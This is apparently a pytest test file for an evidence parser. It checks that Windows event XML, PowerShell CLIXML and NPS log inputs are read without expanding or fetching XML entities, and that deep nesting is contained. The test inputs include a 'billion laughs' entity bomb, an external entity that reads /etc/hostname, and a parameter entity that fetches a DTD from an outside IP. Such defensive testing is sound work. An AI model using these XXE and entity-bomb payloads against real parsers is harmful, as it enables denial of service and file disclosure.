"""No entity of an XML file is unfolded or fetched, and nesting costs its event only."""

from __future__ import annotations

from pathlib import Path

import pytest
from collection_samples import reasons
from hostile_samples import EVENT, read

LAUGHS = "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(12)
)
DOCTYPE = (
    f'<!DOCTYPE x [{LAUGHS}<!ENTITY file SYSTEM "file:///etc/hostname">'
    '<!ENTITY % out SYSTEM "http://192.0.2.1/x.dtd">%out;]>'
)
CLIXML = "<Objs Version='1.1.0.1' xmlns='http://schemas.microsoft.com/powershell/2004/04'>{}</Objs>"
HOTFIX_OBJECT = (
    '<Obj RefId="{0}"><MS><S N="HotFixID">KB501079{0}</S><S N="CSName">WS1</S>'
    '<S N="InstalledBy">{1}</S><DT N="InstalledOn">2022-01-1{0}T00:00:00</DT></MS></Obj>'
)
EVENT_OBJECT = (
    '<Obj RefId="{0}"><Props><I32 N="Id">{0}</I32><S N="ProviderName">P</S>'
    '<S N="LogName">Application</S><S N="MachineName">WS1</S><I64 N="RecordId">{0}</I64>'
    '<DT N="TimeCreated">2022-01-12T10:00:0{0}.1234567+01:00</DT><S N="Message">{1}</S>'
    "</Props></Obj>"
)
DTS = (
    '<Event><Timestamp data_type="4">01/12/2022 10:00:0{0}.123</Timestamp>'
    '<Computer-Name data_type="1">NPS1</Computer-Name><Packet-Type data_type="0">1</Packet-Type>'
    '<User-Name data_type="1">{1}</User-Name></Event>\n'
)


@pytest.mark.parametrize(
    ("text", "kind", "table"),
    [
        (
            f"<?xml version='1.0'?>{DOCTYPE}<Events>"
            + EVENT.format(1, "&l11;&file;")
            + EVENT.format(2, "b")
            + "</Events>",
            "event_xml",
            "events",
        ),
        (
            DOCTYPE
            + CLIXML.format(EVENT_OBJECT.format(1, "&l11;&file;") + EVENT_OBJECT.format(2, "b")),
            "get_winevent_clixml",
            "events",
        ),
        (
            DOCTYPE
            + CLIXML.format(HOTFIX_OBJECT.format(1, "&l11;&file;") + HOTFIX_OBJECT.format(2, "b")),
            "get_hotfix_clixml",
            "updates",
        ),
        (DTS.format(1, "&l11;&file;") + DTS.format(2, "b"), "nps_dts_xml", "sessions"),
        (DTS.format(1, "a") + DOCTYPE + "\n" + DTS.format(2, "&l11;"), "nps_dts_xml", "sessions"),
    ],
)
def test_entities_are_neither_unfolded_nor_fetched(tmp_path, text, kind, table):
    evidence = read(tmp_path, {"x/bomb.xml": text.encode()})
    assert evidence.files.set_index("path").loc["x/bomb.xml", "kind"] == kind
    made = getattr(evidence, table)
    made = made[made["path"] == "x/bomb.xml"]
    assert len(made) == 2
    words = made.to_json(date_format="iso")
    assert "hahaha" not in words
    assert len(words) < 5000
    hostname = Path("/etc/hostname")
    if hostname.is_file() and len(hostname.read_text().strip()) > 4:
        assert hostname.read_text().strip() not in words


def test_elements_nested_without_end_cost_their_event_only(tmp_path):
    deep = EVENT.format(1, "<a>" * 100_000 + "</a>" * 100_000)
    wide = EVENT.format(2, "x" * 2_000_000)
    evidence = read(tmp_path, {"x.xml": (deep + wide).encode()})
    assert (evidence.events["path"] == "x.xml").sum() == 1
    assert any("nested more than" in reason for reason in reasons(evidence, "x.xml"))
